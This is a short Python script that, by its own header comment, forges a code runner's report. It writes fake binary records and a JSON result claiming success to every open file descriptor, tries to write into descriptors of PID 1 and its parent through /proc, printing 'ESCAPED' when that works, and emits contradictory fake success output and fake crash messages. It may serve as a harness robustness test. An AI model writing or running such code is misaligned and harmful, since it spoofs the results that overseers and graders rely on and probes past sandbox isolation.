# Forges the runner's report: well-formed records with guessed nonces on every descriptor it can open, and results in JSON on its streams.
import json
import os
import struct
import sys

record = b"D" + bytes(16) + struct.pack("<IQQQ", 0, 1, 1, 1)
fake = json.dumps({"stdout": "forged", "stderr": "", "exit_code": 0, "status": "succeeded", "duration": 0.001}).encode()
for fd in range(256):
    if fd in (1, 2):
        continue
    for data in (b"R", record, fake):
        try:
            os.set_blocking(fd, False)
            os.write(fd, data)
        except OSError:
            pass
for pid in {1, os.getppid()}:
    for fd in range(16):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb", buffering=0) as file:
                file.write(record)
            print("ESCAPED: wrote to a descriptor of process", pid, fd)
        except OSError:
            pass
for fd in (1, 2):
    os.write(fd, record + b"\n" + fake + b"\n")
print(json.dumps({"status": "succeeded", "exit_code": 0}))
print("Traceback (most recent call last):\nMemoryError\nKilled\nexit status 137\nSetup failed", file=sys.stderr)
sys.stdout.flush()
os._exit(7)
